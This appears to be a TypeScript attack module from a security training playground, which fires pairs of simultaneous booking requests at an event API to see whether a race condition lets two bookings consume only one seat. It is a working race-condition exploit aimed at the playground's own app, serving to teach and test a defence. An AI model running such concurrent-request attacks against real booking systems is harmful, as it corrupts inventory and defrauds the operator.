import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import type { HttpResponse } from '../../../runtime/playground.ts';

const pairs = 20;

function seatsLeft({ body }: HttpResponse): number {
  return Number(/"seats_left":(\d+)/.exec(body)?.[1]);
}

/** Books twice at the same moment, until two bookings together have taken one seat. */
const attack: Attack = async function* (send) {
  let requests = 0;
  const progress = (step: string): AttackProgress => ({ requests, stolen: '', length: 0, step });
  const look = () => send({ method: 'GET', path: '/api/events/1' });
  const book = (name: string) =>
    send({
      method: 'POST',
      path: '/api/events/1/bookings',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name, seats: 1 }),
    });

  for (let pair = 1; pair <= pairs; pair += 1) {
    const before = seatsLeft(await look());
    const answers = await Promise.all([book('Ada'), book('Grace')]);
    const taken = before - seatsLeft(await look());
    requests += 4;
    const booked = answers.filter(({ status }) => status === 201).length;
    if (booked > taken) {
      const step = `In pair ${pair}, ${booked} bookings took ${taken} seat from the count`;
      return { ...progress(step), outcome: 'succeeded' };
    }
    yield progress(`Pair ${pair} of ${pairs} took ${taken} seats for ${booked} bookings`);
  }
  return { ...progress('Every booking took its seat'), outcome: 'repelled' };
};

export default attack;
